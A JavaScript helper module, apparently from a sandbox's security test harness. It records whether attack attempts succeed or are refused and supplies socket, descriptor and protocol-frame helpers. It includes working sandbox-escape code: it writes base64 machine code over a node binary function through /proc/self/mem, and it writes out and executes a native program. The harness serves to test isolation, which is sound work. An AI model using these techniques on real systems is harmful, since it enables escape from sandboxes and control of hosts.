// What attacks share: they say what they try, and each try either worked or was refused.
const fs = require('node:fs');

/** Codes that mean that the kernel does not do it for this process; anything else reached the code behind. */
const REFUSED = new Set(['EPERM', 'ENOSYS', 'EACCES', 'EAFNOSUPPORT']);

/** What top-level code of the bundle found out, told by each run. */
const atLoad = [];

class Tries {
  constructor(input) {
    this.input = input;
    this.native = input.native === true;
    this.list = [];
    this.note = undefined;
  }

  worked(what, found) {
    this.list.push({ what, worked: true, why: brief(found) });
  }

  refused(what, why) {
    this.list.push({ what, worked: false, why: brief(why) });
  }

  /** It worked unless it throws. A promise is waited for. */
  try(what, act) {
    try {
      const found = act();
      if (typeof found?.then !== 'function') return this.worked(what, found);
      return found.then(
        (value) => this.worked(what, value),
        (error) => this.refused(what, reason(error)),
      );
    } catch (error) {
      return this.refused(what, reason(error));
    }
  }

  /** Without this the attack would prove nothing: then it counts as if it had got out. */
  async needs(what, act) {
    try {
      await act();
    } catch (error) {
      this.worked(`needed: ${what}`, `it failed: ${reason(error)}`);
    }
  }

  /** It worked when `found` is not empty. */
  unless(what, found) {
    const empty = found === undefined || found === null || found === false || found.length === 0;
    return empty ? this.refused(what, 'nothing there') : this.worked(what, found);
  }

  /** Lines that machine code wrote: `name errno` per line. */
  calls(text, only) {
    for (const line of text.split('\n').filter(Boolean)) {
      const [what, code] = line.split('\t');
      if (!only.test(what)) continue;
      // A file that is not there can't be opened: that is no question of what the kernel would do.
      const absent = what.startsWith('open ') && ['ENOENT', 'errno 6', 'errno 19'].includes(code);
      if (REFUSED.has(code) || absent) this.refused(what, code);
      else this.worked(what, code);
    }
  }
}

function brief(value) {
  const text = typeof value === 'string' ? value : value === undefined ? '' : JSON.stringify(value);
  return (text ?? '').slice(0, 120);
}

function reason(error) {
  const { code, message, cause } = error ?? {};
  if (code === undefined && cause !== undefined) return `${message}: ${reason(cause)}`;
  return code === 'EGRESS_DENIED' ? message : (code ?? message ?? String(error));
}

/** A connection, or why there is none. */
function connect(host, port, { ms = 4000, say, local } = {}) {
  const net = require('node:net');
  return new Promise((resolve, reject) => {
    const socket = net.connect({ host, port, ...local });
    const timer = setTimeout(() => socket.destroy(Object.assign(new Error('no answer'), { code: 'ETIMEDOUT' })), ms);
    socket.on('connect', () => {
      if (say !== undefined) return socket.write(say);
      clearTimeout(timer);
      socket.destroy();
      return resolve(`connected to ${host}`);
    });
    socket.on('data', (data) => {
      clearTimeout(timer);
      socket.destroy();
      resolve(data.toString('latin1').slice(0, 80));
    });
    socket.on('close', () => {
      clearTimeout(timer);
      reject(Object.assign(new Error('closed'), { code: 'ECONNRESET' }));
    });
    socket.on('error', (error) => {
      clearTimeout(timer);
      reject(error);
    });
  });
}

/** The descriptor of the channel to the worker: the only connected socket of a sandbox. */
function channel() {
  for (const name of fs.readdirSync('/proc/self/fd')) {
    const fd = Number(name);
    if (fd <= 2) continue;
    try {
      if (fs.readlinkSync(`/proc/self/fd/${name}`).startsWith('socket:')) return fd;
    } catch {
      // Closed since.
    }
  }
  throw new Error('no socket found');
}

/** A frame, as docs/protocol.md describes it. */
function frame({ length, sandbox = 0, channel: number = 0, kind, flags = 0, payload = Buffer.alloc(0) }) {
  const header = Buffer.alloc(16);
  header.writeUInt32LE(length ?? payload.length, 0);
  header.writeUInt32LE(sandbox, 4);
  header.writeUInt32LE(number, 8);
  header[12] = kind;
  header[13] = flags;
  return Buffer.concat([header, payload]);
}

/** Writes all of it to a descriptor that may not take it at once. */
function writeAll(fd, bytes, { ms = 5000 } = {}) {
  const until = Date.now() + ms;
  for (let at = 0; at < bytes.length && Date.now() < until; ) {
    try {
      at += fs.writeSync(fd, bytes, at);
    } catch (error) {
      if (error.code !== 'EAGAIN') throw error;
    }
  }
}

const sleep = (ms) => new Promise((done) => setTimeout(done, ms));

/** Base64 of: the code that is written over a function of the node binary; calls.c flat; calls.c as a program. */
let code;
/** Whether the first is in its place. */
let patched = false;

/**
 * While the bundle is loaded nothing keeps a process from writing to its own memory. So its author puts machine code
 * of their own in the place of a function that nobody needs, and has it in every fork: as good as an exploit of V8.
 */
function prepare(text) {
  if (text === '' || text.startsWith('/')) return;
  code = JSON.parse(text);
  try {
    const memory = fs.openSync('/proc/self/mem', 'r+');
    const bytes = Buffer.from(code.enter, 'base64');
    fs.writeSync(memory, bytes, 0, bytes.length, addressOf('uv_interface_addresses'));
    fs.closeSync(memory);
    patched = true;
  } catch (error) {
    patched = reason(error);
  }
}

/** Where a function of the node binary lies in this process. */
function addressOf(name) {
  const file = fs.openSync(process.execPath, 'r');
  const read = (at, length) => {
    const bytes = Buffer.alloc(length);
    fs.readSync(file, bytes, 0, length, at);
    return bytes;
  };
  const head = read(0, 64);
  const [sections, size, count] = [Number(head.readBigUInt64LE(40)), head.readUInt16LE(58), head.readUInt16LE(60)];
  const section = (number) => {
    const bytes = read(sections + number * size, size);
    return { type: bytes.readUInt32LE(4), at: Number(bytes.readBigUInt64LE(24)), length: Number(bytes.readBigUInt64LE(32)), link: bytes.readUInt32LE(40) };
  };
  const symbols = Array.from({ length: count }, (_, number) => section(number)).find(({ type }) => type === 11);
  const names = section(symbols.link);
  const [table, text] = [read(symbols.at, symbols.length), read(names.at, names.length)];
  fs.closeSync(file);
  const wanted = text.indexOf(`\0${name}\0`) + 1;
  for (let at = 0; at < table.length; at += 24) {
    if (table.readUInt32LE(at) !== wanted) continue;
    const value = Number(table.readBigUInt64LE(at + 8));
    return head.readUInt16LE(16) === 2 ? value : value + base();
  }
  throw new Error(`${name} is not exported`);
}

/** Where the node binary begins in this process, if it can be anywhere. */
function base() {
  const line = fs.readFileSync('/proc/self/maps', 'latin1').split('\n').find((it) => it.endsWith(process.execPath));
  return Number.parseInt(line.split('-')[0], 16);
}

/** Has machine code make a group of system calls; what it wrote, and how it came to run. */
function machine(group) {
  const why = [];
  if (patched === true) {
    const out = fs.openSync('native.out', 'w+');
    const head = Buffer.alloc(16);
    head.writeBigInt64LE(BigInt(group), 0);
    head.writeBigInt64LE(BigInt(out), 8);
    fs.writeFileSync('native.bin', Buffer.concat([head, Buffer.from(code.flat, 'base64')]));
    try {
      require('node:os').networkInterfaces();
    } catch {
      // It is told that there are none.
    }
    fs.closeSync(out);
    const text = fs.readFileSync('native.out', 'latin1');
    if (text !== '') return { text, how: 'machine code in the process itself' };
    why.push('the code that was written into the process did nothing');
  } else {
    why.push(`own memory: ${patched}`);
  }
  try {
    const text = require('node:child_process').execFileSync('/runtime/calls', [String(group), String(process.ppid)], { stdio: 'pipe' }).toString('latin1');
    return { text, how: 'a program in the image' };
  } catch (error) {
    if (error.code !== 'ENOENT') why.push(`program in the image: ${reason(error)}`);
  }
  try {
    fs.writeFileSync('calls', Buffer.from(code.program, 'base64'), { mode: 0o755 });
    const text = require('node:child_process').execFileSync('./calls', [String(group), String(process.ppid)], { stdio: 'pipe' }).toString('latin1');
    return { text, how: 'a program of its own' };
  } catch (error) {
    why.push(`program: ${reason(error)}`);
  }
  return { why: why.join('; ') };
}

/** The system calls of a group, each a try; `only` picks some of them. */
function calls(t, group, only = /./) {
  const { text, how, why } = machine(group);
  t.note = how;
  if (text === undefined) return t.refused('run machine code of its own', why);
  return t.calls(text, only);
}

/** One run of the function. `phase` is `attack`, or another that the attack names; `well` is an honest one. */
async function run(attack, bulkhead, input) {
  if (input.phase === 'well') return { well: true };
  if (input.phase === 'beside') {
    // With a file of its own open meanwhile, as honest runs have.
    const held = fs.openSync(`held-${input.mark}`, 'w+');
    fs.writeSync(held, input.mark);
    await sleep(input.ms ?? 1000);
    fs.closeSync(held);
    return { mark: input.mark };
  }
  const tries = new Tries(input);
  tries.list.push(...atLoad);
  await attack[input.phase ?? 'attack'](tries, input, bulkhead);
  return { tries: tries.list, note: tries.note };
}

/** What an attack does while it is loaded: in the zygote. */
function loaded(attack) {
  if (typeof attack.load !== 'function') return;
  const tries = new Tries({ phase: 'load' });
  attack.load(tries);
  atLoad.push(...tries.list);
}

return { run, loaded, prepare, calls, connect, channel, frame, writeAll, sleep, reason };
